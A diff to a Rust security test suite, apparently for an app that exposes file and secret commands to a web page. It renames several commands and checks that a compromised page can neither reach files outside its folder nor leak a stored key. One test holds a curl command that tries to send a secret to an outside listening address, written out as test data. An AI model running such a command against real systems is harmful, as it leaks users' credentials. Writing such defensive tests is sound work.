@@ -147,13 +147,13 @@ fn reaching(bystanders: &Bystanders, skill: &str, consent: &str) -> Vec<(&'stati
         ("set_interpreter", json!({ "language": "java", "program": at("python") })),
         ("save_file", file(&outside)),
         ("save_file", file(&at("key"))),
-        ("read_file", json!({ "skillId": skill, "path": outside })),
-        ("read_file", json!({ "skillId": skill, "path": at("key") })),
+        ("get_file", json!({ "skillId": skill, "path": outside })),
+        ("get_file", json!({ "skillId": skill, "path": at("key") })),
         ("create_file", json!({ "skillId": skill, "path": outside })),
         ("rename_file", json!({ "skillId": skill, "from": "SKILL.md", "to": outside })),
-        ("delete_file", json!({ "skillId": skill, "path": outside })),
-        ("keep_draft", json!({ "skillId": skill, "path": at("key"), "text": "OURS" })),
-        ("outside_change", json!({ "skillId": skill, "path": outside })),
+        ("remove_file", json!({ "skillId": skill, "path": outside })),
+        ("save_draft", json!({ "skillId": skill, "path": at("key"), "text": "OURS" })),
+        ("get_outside_change", json!({ "skillId": skill, "path": outside })),
     ]
 }
 
@@ -161,8 +161,15 @@ fn reaching(bystanders: &Bystanders, skill: &str, consent: &str) -> Vec<(&'stati
 const TELLING: [&str; 9] = ["path", "paths", "folder", "root", "program", "hash", "choice", "isAllowed", "isBase64"];
 /// Commands that have such a name and reach nothing: they answer about a text of the page's own, forget, open the
 /// system's own dialog or say where a library would be.
-const HARMLESS: [&str; 7] =
-    ["analyze", "entity_at", "discard_draft", "revoke_consent", "choose_paths", "library_place", "file_path_problem"];
+const HARMLESS: [&str; 7] = [
+    "analyze",
+    "find_entity",
+    "delete_draft",
+    "revoke_consent",
+    "choose_paths",
+    "get_library_place",
+    "check_file_path",
+];
 
 /// Whatever is sent to this address, told one after the other.
 fn listening() -> (String, std::sync::mpsc::Receiver<()>) {
@@ -181,7 +188,7 @@ fn listening() -> (String, std::sync::mpsc::Receiver<()>) {
 #[tokio::test]
 async fn a_compromised_page_gets_no_secret_out() {
     let window = Window::open_with_samples(Options { asks_for_paths: true, ..Options::default() }).await;
-    window.ask("set_secret", json!({ "name": "openai", "value": "not-for-any-stranger" })).await;
+    window.ask("save_secret", json!({ "name": "openai", "value": "not-for-any-stranger" })).await;
     let (address, hears) = listening();
     let header = json!([{ "name": "Authorization", "value": "Bearer secret://openai" }]);
     let read = window.ask("read_tools", json!({ "text": format!("curl {address} -H 'X-Key: secret://openai'") })).await;
@@ -268,7 +275,7 @@ async fn a_compromised_page_gives_no_consent_and_reaches_no_file() {
     let came: Vec<(String, String)> = serde_json::from_value(came).expect("pairs");
     for (command, what) in came.iter().take(aimed.len() + OTHERS.len()) {
         let is_nothing = ["ok []", "ok null"].contains(&what.as_str()) && !command.starts_with("plugin:");
-        let is_kept_by_itself = command == "keep_draft" || command == "unlink_root";
+        let is_kept_by_itself = command == "save_draft" || command == "unlink_root";
         assert!(!what.starts_with("ok") || is_nothing || is_kept_by_itself, "{command}: {what}");
         assert!(!what.contains("PRIVATE-WORDS"), "{command}: {what}");
         assert!(!what.contains("invalid args"), "the command was not reached: {what}");
